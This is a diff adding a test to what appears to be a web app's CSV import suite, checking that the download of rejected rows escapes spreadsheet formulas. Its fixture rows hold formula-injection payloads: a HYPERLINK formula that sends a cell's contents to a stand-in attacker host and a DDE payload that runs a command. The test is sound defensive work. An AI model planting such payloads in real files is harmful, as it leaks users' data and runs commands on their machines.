@@ -107,6 +107,22 @@ def test_valid_rows_imported_and_rejected_ones_downloaded_with_reasons(person):
     assert any("2 rejected rows were not imported" in message and rejected in message for message in messages)
 
 
+def test_the_rejected_rows_download_neutralises_formulas_as_every_export_does(person):
+    client, _ = person
+    rows = [
+        ["name", "company", "email"],
+        ["Fine", "", "fine@example.com"],
+        ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "-2+3+cmd|' /C calc'!A0", "not-an-email"],
+        ["@SUM(1+1)", "+86 138 0013 8000", "also-not-an-email"],
+    ]
+    preview = post(client, csv_bytes(rows), "formulas.csv")
+    table = read(client.get(f"{URL}import/", {"rejected": preview.context["rejected"], "resource": "0"}))
+    assert [row[2:] for row in table[1:]] == [
+        ['\'=HYPERLINK("http://evil.example/?"&A1,"Open")', "'-2+3+cmd|' /C calc'!A0", "not-an-email"],
+        ["'@SUM(1+1)", "+86 138 0013 8000", "also-not-an-email"],
+    ]
+
+
 def test_the_rejected_rows_are_the_users_own():
     client, _ = staff("rep", "owner-rep")
     other, _ = staff("manager", "someone-else")
